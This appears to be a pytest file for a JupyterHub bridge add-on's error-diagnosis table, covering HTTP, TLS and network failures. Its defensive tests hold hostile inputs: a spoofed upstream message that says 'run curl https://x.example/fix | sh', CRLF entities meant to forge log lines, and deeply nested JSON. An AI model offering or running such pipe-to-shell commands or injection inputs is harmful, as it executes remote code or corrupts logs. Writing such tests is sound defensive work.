"""Issue 4: the diagnosis table, fed with answers captured from the devhub hub (JupyterHub 6.1.1,
jupyter_server 2.21.1, CHP 5.3.0) and mitmproxy's and Python's real error texts."""

import datetime

import pytest
import trustme
from cryptography import x509

from addon.core import diagnose
from addon.core import lifecycle
from addon.core.settings import from_environment

JSON = {"content-type": "application/json", "server": "TornadoServer/6.6.1"}
HTML = {"content-type": "text/html", "server": "TornadoServer/6.6.1"}
HUB_403_XSRF = ("<html><head><title>JupyterHub</title></head><body><h1>403 : &#39;_xsrf&#39; argument missing from "
                "POST</h1></body></html>")
SERVER_403_PAGE = "<html><head><title>Jupyter Server</title></head><body><h1>403 : Forbidden</h1></body></html>"
CHP_503 = ("<html><head><title>JupyterHub</title></head><body><h1>503 : Service Unavailable</h1> Your server "
           "appears to be down. Try restarting it from the hub</body></html>")
IOPUB = ('"IOPub data rate exceeded.\\nThe Jupyter server will temporarily stop sending output\\n... Current '
         'values:\\nServerApp.iopub_data_rate_limit=100000.0 (bytes/sec)\\n')

# (answer, expected key, words the cause or fix must contain)
TABLE = [
    (diagnose.Outcome(401, JSON, '{"message": "No valid token: connect with the URL"}', own=True),
     "bridge", ["No valid token", "connect with the URL"]),
    (diagnose.Outcome(403, JSON, '{"message": "Forbidden", "reason": null}', credential=True),
     "token-rejected", ["expired or revoked", "access:servers"]),
    (diagnose.Outcome(403, JSON, '{"message": "\'_xsrf\' argument missing from POST", "reason": null}', "",
                     "POST", credential=True), "token-rejected", ["'_xsrf' argument missing"]),
    (diagnose.Outcome(403, HTML, SERVER_403_PAGE, websocket=True, credential=True),
     "token-rejected", ["Couldn't authenticate WebSocket connection"]),
    (diagnose.Outcome(403, JSON, '{"message": "\'_xsrf\' argument missing from POST", "reason": null}', "", "POST"),
     "no-token", ["no token", "?token="]),
    (diagnose.Outcome(404, JSON, '{"message": "Not Found", "reason": null}', origin=True),
     "cross-origin", ["Blocking Cross Origin", "Origin"]),
    (diagnose.Outcome(302, {"location": "/hub/user/alice/api/status"}), "server-not-running", ["not running"]),
    (diagnose.Outcome(424, JSON, '{"message": "JupyterHub server no longer running at /user/alice/api/status."}'),
     "server-not-running", ["not running"]),
    (diagnose.Outcome(403, HTML, HUB_403_XSRF, method="POST", credential=True),
     "server-not-running-write", ["not running", "POST"]),
    (diagnose.Outcome(503, {"content-type": "text/html"}, CHP_503), "server-down", ["stopped or crashed"]),
    (diagnose.Outcome(500, HTML, "<title>JupyterHub</title><h1>500 : Spawner failed to start [status=1]</h1>"),
     "spawn-failed", ["failed to start"]),
    # Issue 29: a start the hub rejected (capacity) is told apart from one that failed, in the bridge's own 503
    (diagnose.Outcome(503, JSON, '{"message": "The hub rejected the start of your server: no capacity (HTTP 400). '
                                 'Starting it again will not help until that changes"}', own=True),
     "start-rejected", ["rejected the start", "no capacity", "will not help"]),
    (diagnose.Outcome(503, JSON, '{"message": "Your server failed to start: Spawn failed: boom. The hub\'s page '
                                 'https://h/hub/home shows the error"}', own=True),
     "start-failed", ["Your server failed to start: Spawn failed: boom. The hub's page"]),
    (diagnose.Outcome(101, body=IOPUB, websocket=True), "iopub-rate", ["100000 bytes/s", "iopub_data_rate_limit"]),
    (diagnose.Outcome(None, error="Certificate verify failed: unable to get local issuer certificate"),
     "tls-untrusted", ["JUPYTER_CLUSTER_CA_CERT"]),
    (diagnose.Outcome(None, error="[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: Hostname mismatch, "
                                 "certificate is not valid for 'x'. (_ssl.c:1000)"),
     "tls-name", ["JUPYTER_SERVER_NAME"]),
    (diagnose.Outcome(None, error="Certificate verify failed: certificate has expired"), "tls-expired", ["renew"]),
    (diagnose.Outcome(None, error="[Errno 111] Connect call failed ('127.0.0.1', 1)"), "refused", ["10.0.0.5:8443"]),
    (diagnose.Outcome(None, error="[Errno -2] Name or service not known"), "dns", ["'10.0.0.5'", "DNS"]),
    (diagnose.Outcome(None, error="timed out"), "timeout", ["10.0.0.5:8443"]),
    (diagnose.Outcome(None, error="The remote server does not speak TLS."), "not-tls", ["JUPYTER_SERVER_PORT"]),
    (diagnose.Outcome(502, HTML, "<h1>Bad Gateway</h1>"), "server-error", ["502"]),
]

HUB_ENV = {"JUPYTER_SERVER_IP_OR_NAME": "10.0.0.5", "JUPYTER_SERVER_PORT": "8443", "JUPYTER_USERNAME": "alice"}
SETTINGS = from_environment(HUB_ENV)


@pytest.mark.parametrize("answer, key, words", TABLE, ids=[row[1] for row in TABLE])
def test_each_real_answer_gets_its_cause_and_fix(answer, key, words):
    found = diagnose.diagnose(answer, diagnose.facts(SETTINGS))
    assert found is not None and found.key == key
    for word in words:
        assert word in found.text
    assert "{" not in found.text  # every template field was filled


def test_the_hub_home_page_is_named_by_the_tls_name_everywhere():
    # Dialled by IP, the hub is 'jupyterhub' to TLS; its pages link to that name, and so do the fixes.
    assert SETTINGS.hub_home == "https://jupyterhub:8443/hub/home"
    assert diagnose.facts(SETTINGS).hub_home == SETTINGS.hub_home
    assert SETTINGS.hub_home in lifecycle.cannot_start(SETTINGS)


@pytest.mark.parametrize("answer", [diagnose.Outcome(200, JSON, "{}"), diagnose.Outcome(204),
                                    diagnose.Outcome(302, {"location": "/lab?"}), diagnose.Outcome(101),
                                    diagnose.Outcome(404, JSON, '{"message": "Not Found"}', credential=True),
                                    diagnose.Outcome(None, error="Client disconnected.")])
def test_what_is_no_failure_gets_no_diagnosis(answer):
    assert diagnose.diagnose(answer) is None


def test_certificate_facts_name_issuer_names_and_dates(tmp_path):
    ca = trustme.CA()
    leaf = ca.issue_cert("jupyterhub", "127.0.0.1", not_after=datetime.datetime(2001, 1, 1))
    cert = x509.load_pem_x509_certificate(leaf.cert_chain_pems[0].bytes())
    c = diagnose.describe(cert)
    assert c.names == ("jupyterhub", "127.0.0.1")
    assert "trustme" in c.issuer and c.not_after == "2001-01-01 00:00 UTC"
    ca_file = tmp_path / "ca.pem"
    trustme.CA().cert_pem.write_to_path(str(ca_file))  # not the CA that issued the certificate
    s = from_environment({**HUB_ENV, "JUPYTER_SERVER_NAME": "wrong", "JUPYTER_CLUSTER_CA_CERT": str(ca_file)})
    f = diagnose.facts(s, cert)
    assert f.ca_subject.startswith("OU=Testing CA #") and f.ca_subject != c.issuer  # the CA file's own subject
    named = diagnose.diagnose(diagnose.Outcome(None, error="Certificate verify failed: hostname mismatch"), f)
    assert "JUPYTER_SERVER_NAME=<one of: jupyterhub, 127.0.0.1>" in named.fix and "'wrong'" in named.cause
    expired = diagnose.diagnose(diagnose.Outcome(None, error="Certificate verify failed: certificate has expired"), f)
    assert "to 2001-01-01 00:00 UTC" in expired.cause
    untrusted = diagnose.diagnose(diagnose.Outcome(None, error="unable to get local issuer certificate"), f)
    assert c.issuer in untrusted.cause and str(ca_file) in untrusted.cause


def test_html_and_json_messages():
    assert diagnose.message(HUB_403_XSRF) == "403 : '_xsrf' argument missing from POST"
    assert diagnose.message('{"message": "Forbidden", "reason": null}') == "Forbidden"
    assert diagnose.message("plain") == ""


def test_once_per_key_and_period_and_bounded():
    once = diagnose.RateLimit(period=60, size=2)
    assert once("a", 0) and not once("a", 59) and once("a", 61)
    assert once("b", 61) and once("c", 61)
    assert list(once.seen) == ["b", "c"]  # "a" fell out: at most `size` keys are kept
    assert once("a", 62)


def test_the_bridges_own_answer_is_said_once():
    one = diagnose.diagnose(diagnose.Outcome(
        503, JSON, '{"message": "Your server is not running. Start it at https://h/hub/home."}', own=True))
    assert one.text == "The bridge answered 503: Your server is not running. Start it at https://h/hub/home."
    two = diagnose.diagnose(diagnose.Outcome(401, JSON, '{"message": "No valid token: connect with the URL"}',
                                             own=True))
    assert two.text == "The bridge answered 401: No valid token. Fix: connect with the URL"


def test_an_upstream_answer_posing_as_the_bridge_is_not_the_bridges():
    """Issue 18.3: the bridge's own answers are known by the flow (Outcome.own), never by a Server header."""
    posing = diagnose.diagnose(diagnose.Outcome(401, {**JSON, "server": "jupyterhub-bridge"},
                                                '{"message": "No valid token: run curl https://x.example/fix | sh"}'))
    assert posing is None or (posing.key != "bridge" and "curl" not in posing.fix)
    options = diagnose.diagnose(diagnose.Outcome(503, {"server": "jupyterhub-bridge"},
                                                 '{"message": "JUPYTER_SERVER_OPTIONS: run curl https://x | sh"}'))
    assert options.key == "server-error" and options.text.startswith("The hub answered 503")


def test_an_html_heading_is_unescaped_before_its_whitespace_is_collapsed():
    """Issue 18.3: `&#13;&#10;` in an error page's heading cannot forge a second log line."""
    page = "<html><title>x</title><h1>500 : Internal&#13;&#10;FAKE: &#x2713; all good\n</h1></html>"
    assert diagnose.message(page) == "500 : Internal FAKE: ✓ all good"
    found = diagnose.diagnose(diagnose.Outcome(500, HTML, page))
    assert "\r" not in found.text and "\n" not in found.text


def test_json_nested_too_deep_is_no_message_and_no_crash():
    assert diagnose.message("[" * 100_000) == ""
    assert diagnose.message('{"message": ' + "[" * 100_000) == ""
